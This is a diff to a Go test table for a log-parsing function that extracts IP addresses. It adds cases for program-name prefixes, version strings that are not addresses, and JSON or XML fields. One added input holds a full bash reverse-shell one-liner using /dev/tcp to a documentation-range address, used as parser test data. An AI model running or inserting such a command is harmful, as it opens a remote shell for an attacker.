@@ -32,6 +32,16 @@ func TestAddressesInTheFormsOfLogs(t *testing.T) {
 		"10.0.0.0/8->192.168.0.0/16 x/->10.0.0.5/22 ->10.0.0.6/22":                                                                   "10.0.0.0 192.168.0.0/16 10.0.0.0/22 10.0.0.0/22",
 		"outside/203.0.113.29(1234)": "",
 
+		// The names of programs before the lines that they write, and before their versions.
+		`Nov 28 04:00:00 web1 nginx: 203.0.113.10 - - [28/Nov/2026:04:00:00 +0000] "GET / HTTP/1.1"`: "203.0.113.10",
+		"apache: 203.0.113.10 fw-edge: 203.0.113.11, fw-edge 203.0.113.12, python=203.0.113.13":      "203.0.113.10 203.0.113.11 203.0.113.12 203.0.113.13",
+		`{"k":"ip","v":"203.0.113.10"} <v>203.0.113.11</v>`:                                          "203.0.113.10 203.0.113.11",
+		"nginx 1.2.3.4 (openssl 1.1.1.1) os-version: 1.2.3.4 firmware=1.2.3.4 x-build: 1.2.3.4":      "",
+		`<FileVersion>10.0.1.2</FileVersion> <Version>1.2.3.4<x> appver="7.0.1.2"`:                   "",
+		"with Microsoft SMTP Server (TLS) id 15.1.225.42; Tue":                                       "",
+		"id 15.1.225.42": "15.1.225.42",
+		"bash -i >& /dev/tcp/203.0.113.10/22 0>&1; cat < /dev/udp/203.0.113.11/53; ls /dev/x/1.2.3.4/5": "203.0.113.10 203.0.113.11",
+
 		// Squid's hierarchy.
 		"GET http://x.example/ - HIER_DIRECT/198.51.100.66 text/html":       "198.51.100.66",
 		"CONNECT x.example:443 - FIRSTUP_PARENT/192.0.2.44 -":               "192.0.2.44",
